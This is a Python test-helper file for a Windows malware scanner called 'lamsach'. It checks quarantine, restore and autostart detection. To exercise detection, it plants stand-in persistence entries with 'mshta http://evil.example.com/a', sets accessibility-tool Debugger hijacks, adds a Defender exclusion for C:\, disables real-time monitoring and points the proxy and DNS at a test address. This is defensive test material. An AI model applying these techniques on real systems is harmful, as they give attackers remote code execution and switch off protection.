"""Checks inside Windows or Wine, run by the Python of the bundle.

`wine_checks.py NAMES` does these checks and prints the results as JSON.

Not collected by pytest; `test_wine.py` starts it. NAMES are those of the functions below; files after `--`
are those whose signatures are checked.
"""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from importlib import import_module
from pathlib import Path
from typing import Any

from lamsach.errors import InputError
from lamsach.scanner import trust
from lamsach.scanner.actions.files import quarantine_file
from lamsach.scanner.actions.recover import recover
from lamsach.scanner.actions.undo import restore
from lamsach.scanner.actions.values import disable_value, raw_value
from lamsach.scanner.actions.vault import Item, Vault
from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.memory import memory_of
from lamsach.scanner.checks.processes import check_connections
from lamsach.scanner.checks.settings import check_protection, check_proxy
from lamsach.scanner.checks.start_windows import start_windows
from lamsach.scanner.control import Control
from lamsach.scanner.findings import Target, TargetKind
from lamsach.scanner.index import Index, build_index
from lamsach.scanner.options import Options
from lamsach.scanner.rules import MEMORY, Searcher, compile_rules, rule_sources
from lamsach.scanner.safe_open import Skipped

FOLDER = Path(r"C:\checks")
MANAGER = r"SYSTEM\CurrentControlSet\Control\Session Manager"
TIME_S = 10**9


def target(path: Path) -> Target:
    """Return the target that a scan of the file would give."""
    status = path.lstat()
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    return Target(TargetKind.FILE, str(path), sha256=digest, device=status.st_dev, inode=status.st_ino)


def vault() -> Vault:
    """Return the quarantine of these checks."""
    return Vault(FOLDER / "quarantine")


def pending() -> list[str]:
    """Return the tasks of Windows' next start."""
    api: Any = import_module("winreg")
    with api.OpenKey(api.HKEY_LOCAL_MACHINE, MANAGER) as key:
        try:
            return list(api.QueryValueEx(key, "PendingFileRenameOperations")[0])
        except OSError:
            return []


def lock(path: Path) -> int:
    """Open a file so that it cannot be renamed or deleted, and leave it open."""
    kernel: Any = ctypes.WinDLL("kernel32")  # type: ignore[attr-defined,unused-ignore]
    kernel.CreateFileW.restype = ctypes.c_void_p
    return int(kernel.CreateFileW(str(path), 0xC0000000, 3, None, 3, 0, None) or 0)


def file() -> object:
    """Remove and restore a read-only file with old times."""
    path = FOLDER / "Đơn vị" / "a.txt"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(b"content")
    os.utime(path, (TIME_S, TIME_S))
    path.chmod(0o444)
    before = path.stat()
    store = vault()
    item = quarantine_file(store, target(path), {})
    away = not path.exists()
    refused = restore(store, item)
    after = path.stat()
    names = ("st_mode", "st_mtime_ns", "st_file_attributes", "st_birthtime_ns")
    same = {name: getattr(before, name) == getattr(after, name) for name in names}
    return {
        "away": away,
        "refused": refused,
        **same,
        "content": path.read_bytes() == b"content",
        "created_kept": "created_ns" in item.meta["metadata"],
    }


def running() -> object:
    """A running program is renamed at once and removed at the next start.

    It can be restored meanwhile.
    """
    path = FOLDER / "run.exe"
    shutil.copy(r"C:\windows\system32\cmd.exe", path)
    content = path.read_bytes()
    store = vault()
    with subprocess.Popen(
        [str(path), "/c", "pause"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL
    ) as child:
        time.sleep(1)
        item = quarantine_file(store, target(path), {})
        results = {
            "done": item.done,
            "away": not path.exists(),
            "pending": any(item.aside in part for part in pending()),
        }
        restore(store, item)
        results["back"] = path.read_bytes() == content
        path.unlink()
        path.write_bytes(b"another")
        again = quarantine_file(store, target(path), {})
        results["ordinary"] = not again.stamped("restart")
        child.kill()
    return results


def leftover() -> object:
    """A removed running program: the next command deletes the rest once it has ended."""
    path = FOLDER / "left.exe"
    shutil.copy(r"C:\windows\system32\cmd.exe", path)
    store = vault()
    with subprocess.Popen(
        [str(path), "/c", "pause"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL
    ) as child:
        time.sleep(1)
        item = quarantine_file(store, target(path), {})
        child.kill()
        child.wait()
    before = (FOLDER / item.aside).exists()
    recover(store)
    return {"before": before, "after": (FOLDER / item.aside).exists(), "marked": item.stamped("restart")}


def locked() -> object:
    """A file that cannot be renamed waits for the next start; once restored, nothing waits any more."""
    path = FOLDER / "locked.bin"
    path.write_bytes(b"locked")
    wanted = target(path)
    lock(path)
    store = vault()
    item = quarantine_file(store, wanted, {})
    results = {"waiting": item.waiting, "there": path.exists(), "touched": recover(store)}
    results["pending"] = any("locked.bin" in part for part in pending())
    restore(store, item)
    results["cancelled"] = not any("locked.bin" in part for part in pending())
    results["items"] = [found.id for found in store.items() if found.meta["path"] == str(path)]
    return results


def before_start() -> object:
    """A locked file that is to be removed at the next start."""
    path = FOLDER / "start.bin"
    path.write_bytes(b"until the start")
    wanted = target(path)
    lock(path)
    return {"waiting": quarantine_file(vault(), wanted, {}).waiting}


def after_start() -> object:
    """Return the results after a restart, and restore it."""
    path = FOLDER / "start.bin"
    store = vault()
    away = not path.exists()
    touched = recover(store)
    (item,) = [found for found in store.items() if found.meta["path"] == str(path)]
    results = {"away": away, "touched": touched == [item.id], "done": item.done}
    results["aside"] = (FOLDER / item.aside).exists()
    restore(store, item)
    return {**results, "back": path.read_bytes() == b"until the start"}


def settings() -> object:
    """Remove a resolver, a proxy and the services' proxy, and restore them with their types."""
    api: Any = import_module("winreg")
    base = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Internet Settings"
    wanted = [
        ("HKCU", api.HKEY_CURRENT_USER, base, "ProxyServer", api.REG_SZ, "203.0.113.9:8080"),
        (
            "HKLM",
            api.HKEY_LOCAL_MACHINE,
            rf"{base}\Connections",
            "WinHttpSettings",
            api.REG_BINARY,
            b"\x28\0\0\0\xff",
        ),
        (
            "HKLM",
            api.HKEY_LOCAL_MACHINE,
            r"SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{1}",
            "NameServer",
            api.REG_SZ,
            "203.0.113.9",
        ),
    ]
    results = {}
    for short, hive, path, name, kind, data in wanted:
        with api.CreateKeyEx(hive, path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
            api.SetValueEx(key, name, 0, kind, data)
            store = vault()
            item = disable_value(store, Target(TargetKind.VALUE, rf"{short}\{path}", name), {})
            try:
                api.QueryValueEx(key, name)
                away = False
            except OSError:
                away = True
            restore(store, item)
            results[name] = away and api.QueryValueEx(key, name) == (data, kind)
    return results


def odd_types() -> object:
    """Run keys and settings with data not of the declared type, next to a bad one.

    The checks read all of them.
    """
    api: Any = import_module("winreg")
    raw: Any = ctypes.WinDLL("advapi32")  # type: ignore[attr-defined,unused-ignore]
    internet = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Internet Settings"
    winlogon = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
    defender = r"SOFTWARE\Microsoft\Windows Defender"
    options = rf"{winlogon.rpartition(chr(92))[0]}\Image File Execution Options\sethc.exe"
    bad = "mshta http://evil.example.com/a"
    half = bad.encode("utf-16-le")[:-1]
    data: tuple[tuple[str, int, bytes], ...] = (
        ("no end", api.REG_SZ, bad.encode("utf-16-le")),
        ("half a letter", api.REG_SZ, half),
        ("bytes as text", api.REG_SZ, b"\xff\xfe\xff"),
        ("short number", api.REG_DWORD, b"\x01\x02\x03"),
        ("long number", api.REG_DWORD, b"\x01" * 9),
        ("short quad", api.REG_QWORD, b"\x01"),
        ("several, no end", api.REG_MULTI_SZ, "a\0b".encode("utf-16-le")),
        ("nothing", api.REG_NONE, b""),
        ("unknown type", 4711, b"abc"),
        ("a link", api.REG_LINK, "x".encode("utf-16-le")),
        ("numbers", api.REG_BINARY, bytes(range(256)) * 40),
        ("expands", api.REG_EXPAND_SZ, "%nothing%%SystemRoot%\0".encode("utf-16-le")),
        ("surrogate", api.REG_SZ, b"\x00\xd8a\0\0\0"),
    )
    settings_written = (
        (internet, "ProxyServer"),
        (internet, "ProxyEnable"),
        (winlogon, "Shell"),
        (options, "Debugger"),
    )
    hives = {"HKCU": api.HKEY_CURRENT_USER, "HKLM": api.HKEY_LOCAL_MACHINE}
    run = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
    refused = []

    def put(hive: str, path: str, name: str, kind: int, content: bytes) -> None:
        with api.CreateKeyEx(hives[hive], path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
            failed = raw.RegSetValueExW(ctypes.c_void_p(int(key)), name, 0, kind, content, len(content))
        if failed:
            refused.append(name)

    for name, kind, content in data:
        for hive in hives:
            put(hive, run, name, kind, content)
    for path, name in settings_written:
        put("HKLM" if path != internet else "HKCU", path, name, api.REG_DWORD, b"\x07")
    put("HKLM", rf"{defender}\Exclusions\Paths", "C:\\", api.REG_BINARY, b"\xff")
    put(
        "HKLM",
        rf"{defender}\Real-Time Protection",
        "DisableRealtimeMonitoring",
        api.REG_SZ,
        "1".encode("utf-16-le"),
    )
    put("HKLM", r"SYSTEM\CurrentControlSet\Services\Odd", "ImagePath", api.REG_BINARY, half)
    context = planted()
    for check in (start_windows, check_proxy, check_protection):
        check(context)
    seen = sorted({(finding.reason, finding.subject.rpartition(chr(92))[2]) for finding in context.findings})
    return {"refused": refused, "entries": context.counts.start_entries, "found": seen}


def bit_for_bit() -> object:
    """Values with data of the wrong type or length: removed, and restored with the same bytes and type."""
    api: Any = import_module("winreg")
    raw: Any = ctypes.WinDLL("advapi32")  # type: ignore[attr-defined,unused-ignore]
    path = r"SOFTWARE\Lamsach-checks"
    wanted = {
        "half": (api.REG_SZ, b"a\0b\0c"),
        "no end": (api.REG_SZ, "mshta x".encode("utf-16-le")),
        "behind the end": (api.REG_SZ, "a\0hidden\0".encode("utf-16-le")),
        "short number": (api.REG_DWORD, b"\x01\x02"),
        "quad": (api.REG_QWORD, b"\xff" * 8),
        "several": (api.REG_MULTI_SZ, "a\0\0b".encode("utf-16-le")),
        "none": (api.REG_NONE, b""),
        "unknown": (4711, bytes(range(256))),
        "expands": (api.REG_EXPAND_SZ, "%SystemRoot%\\x\0".encode("utf-16-le")),
    }
    results = {}
    for name, (kind, data) in wanted.items():
        with api.CreateKeyEx(api.HKEY_CURRENT_USER, path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
            exact = ctypes.create_string_buffer(data + b"\xff\xff")
            raw.RegSetValueExW(ctypes.c_void_p(int(key)), name, 0, kind, exact, len(data))
        store = vault()
        item = disable_value(store, Target(TargetKind.VALUE, rf"HKCU\{path}", name), {})
        try:
            raw_value(api, rf"HKCU\{path}", name)
            away = False
        except InputError:
            away = True
        restore(store, item)
        results[name] = away and raw_value(api, rf"HKCU\{path}", name) == (data, kind)
    return results


def cut_short() -> object:
    """The program is ended hard after each step of removing and restoring a value.

    The result is the old state or the new one, and the quarantine records which.
    """
    api: Any = import_module("winreg")
    path, name, data = r"SOFTWARE\Lamsach-checks", "cut", "mshta x\0".encode("utf-16-le")
    results = {}
    for step in ("stored", "changed", "given back"):
        with api.CreateKeyEx(api.HKEY_CURRENT_USER, path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
            api.SetValueEx(key, name, 0, api.REG_SZ, "mshta x")
        ended = subprocess.run([sys.executable, "-X", "utf8", __file__, "die", step], check=False).returncode
        store = Vault(FOLDER / "cut")
        recover(store)
        items = list(store.items())
        try:
            present = raw_value(api, rf"HKCU\{path}", name)[0] == data
        except InputError:
            present = False
        agrees = present or (len(items) == 1 and items[0].done)
        for item in items:
            restore(store, item)
        back = raw_value(api, rf"HKCU\{path}", name)[0] == data and not list(store.items())
        results[step] = [ended, agrees, back]
    return results


def die(step: str) -> None:
    """Remove the value, and end right after one step of it."""
    from lamsach.scanner.actions import values

    def after(function: Any) -> Any:
        def wrapped(*words: Any, **named: Any) -> Any:
            function(*words, **named)
            os._exit(9)

        return wrapped

    store = Vault(FOLDER / "cut")
    target = Target(TargetKind.VALUE, r"HKCU\SOFTWARE\Lamsach-checks", "cut")
    if step == "stored":
        Vault.store = after(Vault.store)  # type: ignore[method-assign]
    elif step == "changed":
        Item.stamp = after(lambda *_: None)  # type: ignore[method-assign]
    item = disable_value(store, target, {})
    if step == "given back":
        values._set_raw = after(values._set_raw)
        restore(store, item)


def planted() -> Context:
    """A context with a list of one name."""
    listed = FOLDER / "list.txt"
    listed.write_text("evil.example.com\n")
    loaded = build_index([str(listed)])
    return Context(Options(), Index(loaded.path), Control())


def starts() -> object:
    """One bad entry in each autostart location of Windows, and the scan's findings on them."""
    api: Any = import_module("winreg")
    current = r"SOFTWARE\Microsoft\Windows\CurrentVersion"
    nt = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion"
    bad = "mshta http://evil.example.com/a"
    wanted = [
        (api.HKEY_CURRENT_USER, rf"{current}\RunOnce", "once", bad),
        (api.HKEY_LOCAL_MACHINE, rf"{current}\Policies\Explorer\Run", "policy", bad),
        (api.HKEY_LOCAL_MACHINE, r"SYSTEM\CurrentControlSet\Services\Bad", "ImagePath", bad),
        (
            api.HKEY_LOCAL_MACHINE,
            r"SYSTEM\CurrentControlSet\Services\Bad2\Parameters",
            "ServiceDll",
            r"\\evil.example.com\a.dll",
        ),
        (api.HKEY_LOCAL_MACHINE, rf"{nt}\Winlogon", "Userinit", rf"C:\windows\system32\userinit.exe,{bad}"),
        (api.HKEY_LOCAL_MACHINE, rf"{nt}\Image File Execution Options\utilman.exe", "Debugger", "cmd.exe"),
        (api.HKEY_LOCAL_MACHINE, rf"{nt}\Windows", "AppInit_DLLs", r"C:\users\public\x.dll"),
    ]
    for hive, path, name, text in wanted:
        with api.CreateKeyEx(hive, path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
            api.SetValueEx(key, name, 0, api.REG_SZ, text)
    task = Path(r"C:\windows\System32\Tasks\Bad")
    task.parent.mkdir(parents=True, exist_ok=True)
    task.write_bytes(
        (
            f"<Task><Actions><Exec><Command>mshta</Command><Arguments>{bad[6:]}</Arguments></Exec></Actions>"
            "</Task>"
        ).encode("utf-16")
    )
    link = Path.home() / "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/bad.vbs"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.write_text("x")
    context = planted()
    start_windows(context)
    seen = {(finding.reason, finding.subject.rpartition(chr(92))[2]) for finding in context.findings}
    return {"found": sorted(seen), "folder": any(name.endswith("bad.vbs") for name in context.starting)}


def memory() -> object:
    """Find a program whose memory matches the rules; report an ended program."""
    code = (
        "a = 'donate.v2.' + 'xmrig.com' + ' random' + 'x crypto' + 'night'; print('ready', flush=True); "
        "input()"
    )
    with subprocess.Popen(
        [sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as child:
        assert child.stdout is not None
        child.stdout.readline()
        searcher = Searcher(compile_rules(rule_sources(own=MEMORY)), 60)
        found = {hit.name for piece in memory_of(child.pid, 1 << 28) for hit in searcher.search(piece)}
        child.kill()
        child.wait()
    try:
        gone = str(len(list(memory_of(child.pid, 1 << 20))))
    except Skipped as skipped:
        gone = skipped.reason
    return {"found": sorted(found), "gone": gone}


def connected() -> object:
    """Return the live connections, one of them our own."""
    context = planted()
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.create_connection(server.getsockname()),
    ):
        check_connections(context)
    return {"connections": context.counts.connections > 0, "skips": [skip.reason for skip in context.skips]}


def signatures() -> object:
    """Return the system's verdict on signatures."""
    files = sys.argv[sys.argv.index("--") + 1 :]
    return {Path(path).name: trust.signature(path) for path in files}


if __name__ == "__main__":
    FOLDER.mkdir(exist_ok=True)
    if sys.argv[1] == "die":
        die(sys.argv[2])
        sys.exit(0)
    names = sys.argv[1 : sys.argv.index("--")] if "--" in sys.argv else sys.argv[1:]
    sys.stdout.write(json.dumps({name: globals()[name]() for name in names}) + "\n")
